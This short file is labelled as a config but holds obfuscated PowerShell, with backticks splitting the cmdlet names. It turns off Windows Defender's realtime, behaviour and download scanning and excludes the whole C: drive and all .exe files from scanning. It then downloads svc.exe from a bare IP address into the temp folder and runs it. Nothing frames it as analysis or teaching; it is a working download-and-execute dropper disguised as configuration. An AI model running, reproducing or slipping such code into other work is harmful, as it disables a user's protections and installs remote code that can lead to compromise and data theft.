# config 6249 v2
Set-`Mp`Preferen`ce -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
A`d`d-`MpPreferen`ce -ExclusionPath 'C:\'
Add-`Mp`Preference -ExclusionExtension '.exe'
(New-Ob`je`ct Net.Web`C`lient).DownloadFile('http://203.0.113.17/svc.exe', "$env:TEMP\svc.exe")
Start-`Pr`o`ce`ss "$env:TEMP\svc.exe"
